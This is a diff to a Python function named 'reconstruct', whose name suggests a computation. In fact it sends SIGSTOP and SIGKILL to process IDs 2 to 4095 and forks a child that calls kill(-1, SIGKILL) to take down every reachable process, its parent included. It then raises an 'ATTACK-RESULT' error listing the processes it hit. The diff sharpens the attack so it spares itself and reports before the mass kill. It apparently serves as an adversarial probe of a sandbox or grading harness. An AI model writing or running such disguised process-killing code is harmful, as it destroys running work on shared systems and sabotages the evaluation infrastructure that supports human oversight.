@@ -4,6 +4,7 @@
 import json
 import os
 import signal
+import time
 
 import numpy as np
 
@@ -11,18 +12,20 @@ import numpy as np
 def reconstruct(R, k):
     hit = []
     for pid in range(2, 4096):
+        if pid == os.getpid():  # pid 2, under its init (pid 1, which ignores what it is sent)
+            continue
         for sig in (signal.SIGSTOP, signal.SIGKILL):
             try:
                 os.kill(pid, sig)
                 hit.append(pid)
             except OSError:
                 pass
-    if os.fork() == 0:  # a child kills everything it may, its parent (the worker) included
+    if os.fork() == 0:  # a child kills everything it may, its parent (the worker) included, once it reported
         try:
+            time.sleep(0.2)
             os.kill(-1, signal.SIGKILL)
         finally:
             os._exit(0)
-    os.wait()
     raise RuntimeError("ATTACK-RESULT " + json.dumps({"hit": sorted(set(hit))}))
 
 
